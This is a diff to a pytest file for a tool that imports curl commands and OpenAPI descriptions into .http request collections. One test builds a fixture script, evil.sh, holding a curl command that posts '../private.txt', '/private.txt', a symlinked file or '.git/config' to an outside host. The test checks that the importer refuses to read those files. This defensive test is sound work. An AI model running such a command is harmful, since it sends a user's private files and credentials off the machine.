@@ -135,10 +135,13 @@ def test_standard_input(capsys, monkeypatch):
     assert Path("api/requests.http").read_text() == "### GET /a\nGET https://example.org/a\n"
 
 
-def test_a_file_elsewhere_is_not_read_for_a_collection(capsys):
+@pytest.mark.parametrize("path", ["../private.txt", "/private.txt", "link.txt", ".git/config"])
+def test_a_file_elsewhere_is_not_read_for_a_collection(capsys, path):
     Path("private.txt").write_text("mine")
-    Path("given").mkdir()
-    Path("given/evil.sh").write_text("curl -L https://example.org/ -d @../private.txt")
+    Path("given/.git").mkdir(parents=True)
+    Path("given/.git/config").write_text("mine")
+    Path("given/link.txt").symlink_to("../private.txt")
+    Path("given/evil.sh").write_text(f"curl -L https://example.org/ --data-binary @{path}")
     code, out, err = run(capsys, "curl", "given/evil.sh", "-o", "api")
     assert (code, out) == (0, "api/evil.http\n")
     assert "api/evil.http: line 5: lost: " in err
@@ -188,3 +191,38 @@ def test_a_file_that_is_none_of_that_kind_ends_with_3(capsys, kind, content, wha
     assert (code, out) == (3, "")
     assert what in err
     assert not Path("api").exists()
+
+
+def test_description_comes_with_the_files_that_it_refers_to(capsys):
+    paths = {"/a": {"$ref": "./paths/a.json#/a"}}
+    described = {"openapi": "3.0.3", "info": {"title": "Api", "version": "1"}, "paths": paths}
+    Path("apis/paths").mkdir(parents=True)
+    Path("apis/api.json").write_text(json.dumps(described))
+    Path("apis/paths/a.json").write_text('{"a": {"get": {"responses": {"204": {}}}}}')
+    code, out, err = run(capsys, "openapi", "apis/api.json", "-o", "out")
+    assert (code, out.split()) == (
+        0,
+        [
+            "out/api.http",
+            "out/http-client.env.json",
+            "out/api.json",
+            "out/paths/a.json",
+        ],
+    )
+    assert err == snapshot("""\
+apis/api.json: servers: lost: the description names no host; `http://localhost` stands in its place
+  hint: put the host into `baseUrl`
+1 request imported, 1 thing lost
+""")
+    assert main(["check", "out"]) == 0
+    assert "GET {{baseUrl}}/a\n\n# @assert status == 204\n" in Path("out/api.http").read_text()
+
+
+def test_what_is_no_description_ends_with_3(capsys):
+    Path("api.json").write_text('{"openapi": "3.0.3",\n}')
+    code, out, err = run(capsys, "openapi", "api.json", "-o", "out")
+    assert (code, out) == (3, "")
+    assert err == snapshot(
+        "api.json:2:1: error: it is not JSON: expecting property name enclosed in double quotes\n"
+    )
+    assert not Path("out").exists()
